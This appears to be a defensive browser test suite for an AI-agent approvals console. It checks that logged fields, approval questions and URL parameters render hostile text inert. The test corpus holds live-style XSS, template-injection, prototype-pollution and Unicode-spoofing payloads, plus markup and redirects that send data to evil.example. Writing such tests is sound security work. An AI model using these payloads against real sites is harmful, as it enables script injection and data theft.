import assert from "node:assert/strict";
import { after, test } from "node:test";
import { questions } from "../../console/dev/approvals.ts";
import type { Scene } from "../../console/dev/scenes.ts";
import { house, stage, watched } from "./console-stage.ts";

/** What an attacker would have the log hold. Each would run, or leave a mark, where text is taken for markup, a template or an address. */
const CORPUS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  '"><svg onload=window.pwned=1>',
  "'><iframe srcdoc='<script>parent.pwned=1</script>'>",
  "</pre></title></textarea><script>window.pwned=1</script>",
  "javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it must not become
  "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
  "<a href=javascript:window.pwned=1>x</a><form action=https://evil.example><input name=q></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
  "<style>*{background:url(https://evil.example/x)}</style><link rel=stylesheet href=https://evil.example/x>",
  "![x](https://evil.example/x?q=secret) [click](javascript:window.pwned=1)",
  "\u202egnp.exe\u202c \u200b\u2066hidden\u2069 \u{e0041}\u{e0042}",
  "{0} {n, plural, one {#} other {<b>#</b>}} ' '' `code` \\u003cscript\\u003e",
  "__proto__",
];

/** The same hostile text in every field of a decision and of its records. */
function hostileScene(text: string, n: number): Scene {
  const reason = { id: text, effect: "deny", text: `${text} \`${text}\``, would: text };
  const excerpt = { at: text, excerpt: `${text} [iban] ${text}`, truncated: 3, findings: { [text]: 2, iban: 1 } };
  return {
    id: `hostile-${n}`,
    summary: { agent: text, user: text, action: text, tool: text, target: text, effect: "deny", reason, findings: 1, masked: true, parent: text },
    intent: {
      agent: text,
      user: text,
      session: text,
      key: text,
      surface: text,
      parent: text,
      traceparent: text,
      action: text,
      tool: text,
      target: { type: text, id: text },
      args: { [text]: text, nested: [{ a: text }] },
      effect: "deny",
      reasons: [reason],
      obligations: [{ kind: "mask", findings: [text] }, { kind: "isolate", driver: text }, { kind: "limit", name: text, amount: text }, { kind: text }],
      label: { integrity: text, readers: [text], categories: [text], origins: [text] },
      input: [{ at: text, source: text, integrity: text, length: 9, digest: text, excerpts: [excerpt] }],
    },
    outcome: { status: "denied", code: text, took: 1, reasons: [reason], output: [excerpt], facts: { [text]: text } },
  };
}

const home = await house();
const on = await stage(home.folder, { seed: CORPUS.map(hostileScene) });
after(() => on.close());

test("hostile text in every logged field is shown as text, runs nothing, asks nothing of anybody and breaks no page", async () => {
  const context = await home.browser.newContext({ viewport: { width: 1440, height: 900 }, locale: "de-DE" });
  const { page, problems, foreign } = await watched(context, on.origin);
  const marks = () =>
    page.evaluate(() => ({
      pwned: "pwned" in window,
      elements: document.querySelectorAll("#root :is(script, iframe, img, meta, base, link, form, object, embed, [onerror], [onload], style)").length,
      links: [...document.querySelectorAll("a")].filter((link) => !["http:", "https:"].includes(link.protocol) || link.origin !== location.origin).length,
      path: location.pathname,
    }));
  await page.goto(on.loginUrl());
  await page.waitForSelector(".latest .rows");
  assert.deepEqual(await marks(), { pwned: false, elements: 0, links: 0, path: "/" });
  await page.goto(`${on.origin}/activity`);
  await page.locator("a[data-decision]").first().waitFor();
  assert.equal(await page.locator("a[data-decision]").count(), CORPUS.length);
  assert.deepEqual(await marks(), { pwned: false, elements: 0, links: 0, path: "/activity" });
  for (const [n, text] of CORPUS.entries()) {
    await page.locator(`#decision-hostile-${n}`).click();
    const story = page.locator("article.story");
    await story.locator(".story-head").waitFor();
    await story.locator("summary").click();
    await story.getByRole("button", { name: "Prüfen" }).click();
    // Shown is also true: the record verifies, with everything that was put into it.
    await story.getByText("Geprüft: Dieser Eintrag steht unverändert").waitFor();
    if (!text.includes("\u202e")) assert.ok((await story.locator(".facts").first().innerText()).includes(text), text);
    else assert.match(await story.locator(".facts").first().innerText(), /‹U\+202E›gnp\.exe‹U\+202C› ‹U\+200B›‹U\+2066›hidden‹U\+2069› ‹U\+E0041›‹U\+E0042›/);
    assert.deepEqual(await marks(), { pwned: false, elements: 0, links: 0, path: `/activity/hostile-${n}` });
  }
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});

test("hostile text in every field of a question is shown as text and runs nothing, in the list, the question and every form", async () => {
  const asked = await questions("robin");
  for (const [n, text] of CORPUS.entries()) {
    const args = JSON.parse(JSON.stringify({ [`n${n}`]: n, long: text.repeat(40), nested: [{ a: text }, [text]] })) as object;
    await asked.ask({
      agent: text,
      user: text,
      key: text,
      action: text,
      tool: text,
      args: { ...args, ...(text === "__proto__" ? {} : { [text]: text }) },
      target: { type: text, id: text },
      content: text,
      surface: text,
      session: text,
      reasons: [{ id: `flow/${text}`, text, evidence: [{ argument: text, origin: `${text}#3` }, { argument: text }] }],
      needs: { approvers: [text], count: 1 },
    });
  }
  assert.equal(asked.waiting, CORPUS.length);
  const hostile = await stage(home.folder, { questions: asked });
  const context = await home.browser.newContext({ viewport: { width: 1440, height: 900 }, locale: "en-GB" });
  const { page, problems, foreign } = await watched(context, hostile.origin);
  const marks = () =>
    page.evaluate(() => ({
      pwned: "pwned" in window,
      elements: document.querySelectorAll(":is(#root, [role=dialog]) :is(script, iframe, img, meta, base, link, form, object, embed, [onerror], [onload])")
        .length,
      links: [...document.querySelectorAll("a")].filter((link) => link.origin !== location.origin).length,
    }));
  const clean = { pwned: false, elements: 0, links: 0 };
  await page.goto(hostile.loginUrl());
  await page.locator(".waiting").click();
  await page.locator(".questions a.row-link").first().waitFor();
  assert.equal(await page.locator(".questions a.row-link").count(), CORPUS.length);
  assert.deepEqual(await marks(), clean);
  for (const [n, text] of CORPUS.entries()) {
    await page.goto(`${hostile.origin}/approvals/HF-${n + 1}`);
    const detail = page.locator("article.question");
    await detail.locator(".arguments").waitFor();
    const hidden = "‹U+202E›gnp.exe‹U+202C› ‹U+200B›‹U+2066›hidden‹U+2069› ‹U+E0041›‹U+E0042›";
    assert.ok((await detail.locator(".arguments").innerText()).includes(text.includes("\u202e") ? hidden : text), text);
    assert.deepEqual(await marks(), clean);
    for (const key of ["a", "e", "r"]) {
      await page.keyboard.press(key);
      await page.getByRole("dialog").waitFor();
      assert.deepEqual(await marks(), clean);
      await page.keyboard.press("Escape");
      await page.getByRole("dialog").waitFor({ state: "detached" });
    }
  }
  await page.goto(`${hostile.origin}/approvals/${encodeURIComponent("<img src=x onerror=window.pwned=1>")}?show=<b>`);
  await page.locator(".verdict.deny").waitFor();
  assert.deepEqual(await marks(), clean);
  assert.deepEqual([problems.filter((problem) => !/status of 404/.test(problem)), foreign], [[], []]);
  await context.close();
  await hostile.close();
});

test("an address cannot make the console talk to another server or show markup", async () => {
  const context = await home.browser.newContext({ locale: "en-GB" });
  const { page, problems, foreign } = await watched(context, on.origin);
  await page.goto(on.loginUrl());
  await page.waitForSelector(".numbers");
  const hostile = encodeURIComponent("<img src=x onerror=window.pwned=1>");
  for (const path of [
    `/activity?gatewayUrl=https://evil.example&api=https://evil.example&base_url=//evil.example&text=${hostile}`,
    `/activity/${hostile}`,
    `/activity?effect=${hostile}&since=javascript:1&__proto__=1&constructor=1`,
    "/?redirect=https://evil.example",
    `/login?next=https://evil.example#${hostile}`,
  ]) {
    await page.goto(`${on.origin}${path}`);
    await page.locator("main h1, main h2").first().waitFor();
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => "pwned" in window || document.querySelector("#root img") !== null), false, path);
    assert.ok(page.url().startsWith(`${on.origin}/`), path);
  }
  assert.deepEqual(foreign, []);
  assert.deepEqual(
    problems.filter((problem) => !/status of 404/.test(problem)),
    [],
  );
  await context.close();
});

test("records of any shape are drawn as far as they go, and break no page", async () => {
  const odd = await stage(home.folder, {
    seed: [
      {
        id: "odd-1",
        summary: { agent: "x", action: "y", effect: "permit", reason: 4, findings: "many", tool: { a: 1 } },
        intent: { input: "text", reasons: {}, label: 7, args: null },
        outcome: { status: "??" },
      },
      {
        id: "odd-2",
        summary: { agent: "x", action: "y", effect: "allow" },
        intent: { input: [null, 4, []], reasons: [null], obligations: [null], label: [] },
        outcome: { status: "done", output: [null], facts: [1] },
      },
    ],
  });
  const context = await home.browser.newContext({ locale: "en-GB" });
  const { page, problems } = await watched(context, odd.origin);
  await page.goto(odd.loginUrl());
  await page.waitForSelector(".numbers");
  for (const id of ["odd-1", "odd-2"]) {
    await page.goto(`${odd.origin}/activity/${id}`);
    await page.locator(".story-head").waitFor();
    assert.equal(await page.getByText("This page could not be shown").count(), 0);
  }
  assert.deepEqual(problems, []);
  await context.close();
  await odd.close();
});
